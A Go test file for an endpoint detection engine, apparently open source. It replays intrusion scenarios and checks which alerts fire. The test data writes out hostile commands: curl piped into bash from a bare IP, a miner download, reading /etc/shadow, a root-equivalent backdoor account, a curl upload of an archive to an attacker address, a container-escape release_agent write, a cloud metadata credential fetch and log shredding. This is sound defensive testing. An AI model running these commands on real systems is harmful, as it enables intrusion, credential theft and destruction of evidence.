// SPDX-License-Identifier: Apache-2.0

package content

import (
	"fmt"
	"path"
	"slices"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/picket-edr/picket"
	"github.com/picket-edr/picket/detect"
	"github.com/picket-edr/picket/event"
	"github.com/picket-edr/picket/rule"
)

// TestRulesTogether: on every sample, the complete rule set fires a rule exactly
// when the rule alone does.
func TestRulesTogether(t *testing.T) {
	t.Parallel()
	e := engine(t)
	n := 0
	for _, r := range all(t) {
		routes := r.Routes()
		check := func(sample rule.Test, want bool) {
			n++
			block, err := detect.Sample(routes, sample.Event)
			if err != nil {
				t.Fatalf("%s:%d: %v", r.File, sample.Line, err)
			}
			env := event.Envelope{Tenant: "default", DeviceID: fmt.Sprint(n), Received: event.TimeOf(time.Date(2025, 1, 1, 13, 0, 0, 0, time.UTC))}
			alerts, err := e.Feed(env, &event.Batch{BootID: "b", Seq: 1, Blocks: []*event.Block{block}})
			if err != nil {
				t.Fatal(err)
			}
			if got := slices.ContainsFunc(alerts, func(a picket.Alert) bool { return a.RuleID == r.ID }); got != want {
				t.Errorf("%s:%d: fires %v, want %v", r.File, sample.Line, got, want)
			}
		}
		for _, s := range r.Tests.Match {
			check(s, true)
		}
		for _, s := range r.Tests.Ignore {
			check(s, false)
		}
	}
}

// step is one thing that happens in a story: a command (image, command line) or
// another row.
type step struct {
	image, command string
	row            event.Row
}

// TestStories plays intrusions and ordinary work from beginning to end and
// wants exactly the alerts that an analyst should see.
func TestStories(t *testing.T) {
	t.Parallel()
	for name, s := range map[string]struct {
		steps []step
		want  []string
	}{
		"web shell to miner": {
			[]step{
				{"/usr/bin/dash", `sh -c "curl -fsSL http://203.0.113.7/i.sh | bash"`, nil},
				{"/usr/bin/wget", "wget -q http://203.0.113.7/kw -O /tmp/.kw", nil},
				{"/usr/bin/chmod", "chmod 777 /tmp/.kw", nil},
				{"/tmp/.kw", "./.kw -o stratum+tcp://pool.example.net:3333 -u 4A", nil},
				{row: &event.DeviceFileEvents{ActionType: "FileCreated", FolderPath: "/etc/cron.d/kw", FileName: "kw", InitiatingProcessFolderPath: "/usr/bin/bash", InitiatingProcessCommandLine: "bash"}},
				{row: &event.DeviceEvents{ActionType: "DnsQueryRequest", DnsQueryName: "xmr-eu1.nanopool.org", InitiatingProcessFolderPath: "/tmp/.kw"}},
				{"/usr/bin/rm", "rm -f /root/.bash_history", nil},
			},
			[]string{
				"Cryptocurrency miner", "Download piped straight into an interpreter", "File fetched from a bare address into a temporary folder",
				"Hidden program runs from a temporary folder", "Name of a mining pool asked for", "Program runs from a temporary folder", "Scheduled job written by an unusual program",
				"Shell history erased or switched off",
			},
		},
		"hands on the keyboard": {
			[]step{
				{row: &event.DeviceLogonEvents{ActionType: "LogonSuccess", AccountName: "root", RemoteIP: "203.0.113.7", RemoteIPType: "Public"}},
				{"/usr/bin/python3.11", `python3 -c "import pty; pty.spawn(\"/bin/bash\")"`, nil},
				{"/usr/bin/find", "find / -perm -4000 -type f", nil},
				{"/usr/bin/cat", "cat /etc/shadow", nil},
				{"/usr/bin/find", "find / -name id_rsa", nil},
				{"/usr/sbin/useradd", "useradd -o -u 0 -g 0 support", nil},
				{row: &event.DeviceFileEvents{ActionType: "FileModified", FolderPath: "/root/.ssh/authorized_keys", FileName: "authorized_keys", InitiatingProcessFolderPath: "/usr/bin/bash", InitiatingProcessCommandLine: "bash"}},
				{"/usr/bin/systemctl", "systemctl stop auditd", nil},
				{"/usr/bin/curl", "curl -F f=@/tmp/l.tgz http://203.0.113.7/", nil},
				{"/usr/bin/shred", "shred -u /var/log/wtmp", nil},
			},
			[]string{
				"File sent to a bare address", "Key for SSH access added", "Log-on as root from the internet", "Logs of the system destroyed", "Password hashes read",
				"Private keys searched or read", "Python one-liner turns a plain shell into a terminal", "Recording of system events switched off",
				"Search for programs that run as root", "Second account with the rights of root",
			},
		},
		"out of a container": {
			[]step{
				{row: &event.DeviceProcessEvents{ActionType: "ProcessCreated", FolderPath: "/bin/cat", ProcessCommandLine: "cat /proc/1/cgroup", ContainerId: "4f5e6d7c8b9a"}},
				{row: &event.DeviceProcessEvents{ActionType: "ProcessCreated", FolderPath: "/bin/sh", ProcessCommandLine: `sh -c "echo /cmd > /tmp/cgrp/release_agent"`, ContainerId: "4f5e6d7c8b9a"}},
				{"/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n sh", nil},
				{"/usr/bin/curl", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/node", nil},
				{row: &event.DeviceNetworkEvents{ActionType: "ConnectionSuccess", Protocol: "Tcp", RemoteIP: "203.0.113.7", RemotePort: 4444, InitiatingProcessFolderPath: "/usr/bin/bash"}},
			},
			[]string{
				"Cloud credentials fetched from the metadata service", "Cloud metadata service asked from the command line", "Kernel told to run a program of someone's choice",
				"Process enters the namespaces of the host", "Process finds out whether it is in a container", "Shell opened a network connection",
			},
		},
		"a day of administration": {
			[]step{
				{"/usr/bin/apt-get", "apt-get -y upgrade", nil},
				{"/usr/bin/dpkg", "/usr/bin/dpkg --unpack /var/cache/apt/archives/nginx.deb", nil},
				{row: &event.DeviceFileEvents{ActionType: "FileRenamed", FolderPath: "/lib/systemd/system/nginx.service", FileName: "nginx.service", InitiatingProcessFolderPath: "/usr/bin/dpkg"}},
				{row: &event.DeviceFileEvents{ActionType: "FileRenamed", FolderPath: "/etc/cron.d/certbot", FileName: "certbot", InitiatingProcessFolderPath: "/usr/bin/dpkg"}},
				{row: &event.DeviceFileEvents{ActionType: "FileRenamed", FolderPath: "/etc/passwd", FileName: "passwd", InitiatingProcessFolderPath: "/usr/sbin/useradd"}},
				{row: &event.DeviceFileEvents{ActionType: "FileModified", FolderPath: "/etc/hosts", FileName: "hosts", InitiatingProcessFolderPath: "/usr/bin/vim.basic"}},
				{"/usr/sbin/useradd", "useradd -m -s /bin/bash carol", nil},
				{"/usr/bin/systemctl", "systemctl restart nginx", nil},
				{"/usr/bin/journalctl", "journalctl -u nginx --since today", nil},
				{"/usr/bin/chmod", "chmod -R 755 /srv/www", nil},
				{"/usr/bin/tar", "tar czf /var/backups/www.tgz /srv/www", nil},
				{"/usr/bin/scp", "scp /var/backups/www.tgz backup@10.0.0.4:", nil},
				{"/usr/bin/curl", "curl -fsS https://api.example.org/health", nil},
				{"/usr/bin/docker", "docker run -d -p 80:80 -v /srv/www:/usr/share/nginx/html nginx", nil},
				{"/usr/bin/grep", "grep -r listen /etc/nginx", nil},
				{"/usr/bin/find", "find /var/log -name *.gz -mtime +30 -delete", nil},
				{"/usr/bin/kmod", "modprobe br_netfilter", nil},
				{"/usr/bin/ssh", "ssh -L 5432:db:5432 jump", nil},
				{"/usr/bin/git", "git push origin main", nil},
				{"/usr/bin/python3.11", "python3 manage.py migrate", nil},
				{row: &event.DeviceEvents{ActionType: "DnsQueryRequest", DnsQueryName: "deb.debian.org", InitiatingProcessFolderPath: "/usr/lib/apt/methods/https"}},
				{row: &event.DeviceNetworkEvents{ActionType: "ConnectionSuccess", Protocol: "Tcp", RemoteIP: "151.101.2.132", RemotePort: 443, InitiatingProcessFolderPath: "/usr/lib/apt/methods/https"}},
				{row: &event.DeviceLogonEvents{ActionType: "LogonSuccess", AccountName: "carol", RemoteIP: "10.0.0.8", RemoteIPType: "Private"}},
			},
			nil,
		},
	} {
		alerts := play(t, s.steps)
		var got []string
		for _, a := range alerts {
			got = append(got, a.Title)
		}
		slices.Sort(got)
		if d := cmp.Diff(s.want, got); d != "" {
			t.Errorf("%s:\n%s", name, d)
		}
	}
}

// play feeds the steps of a story, all below one shell.
func play(t *testing.T, steps []step) []picket.Alert {
	t.Helper()
	start := event.TimeOf(time.Unix(1_700_000_000, 0))
	guid := func(n int) string { return picket.ProcessGUID("d", "story", uint32(n), 1) }
	var b event.Builder
	for i, s := range steps {
		at, report := start+event.Time(i*1000), int64(i+1)
		switch r := s.row.(type) {
		case nil:
			b.Add(&event.DeviceProcessEvents{Timestamp: at, ReportId: report, ActionType: "ProcessCreated", FolderPath: s.image, FileName: path.Base(s.image), ProcessCommandLine: s.command,
				ProcessUniqueId: guid(i + 10), InitiatingProcessUniqueId: guid(1), InitiatingProcessFolderPath: "/usr/bin/bash", InitiatingProcessCommandLine: "-bash"})
			continue
		case *event.DeviceProcessEvents:
			r.Timestamp, r.ReportId, r.ProcessUniqueId, r.InitiatingProcessUniqueId = at, report, guid(i+10), guid(1)
		case *event.DeviceFileEvents:
			r.Timestamp, r.ReportId, r.InitiatingProcessUniqueId = at, report, guid(1)
		case *event.DeviceNetworkEvents:
			r.Timestamp, r.ReportId, r.InitiatingProcessUniqueId = at, report, guid(1)
		case *event.DeviceLogonEvents:
			r.Timestamp, r.ReportId = at, report
		case *event.DeviceEvents:
			r.Timestamp, r.ReportId, r.InitiatingProcessUniqueId = at, report, guid(1)
		}
		b.Add(s.row)
	}
	alerts, err := engine(t).Feed(event.Envelope{Tenant: "default", DeviceID: "d", Received: start}, &event.Batch{BootID: "story", Seq: 1, Blocks: b.Take()})
	if err != nil {
		t.Fatal(err)
	}
	return alerts
}
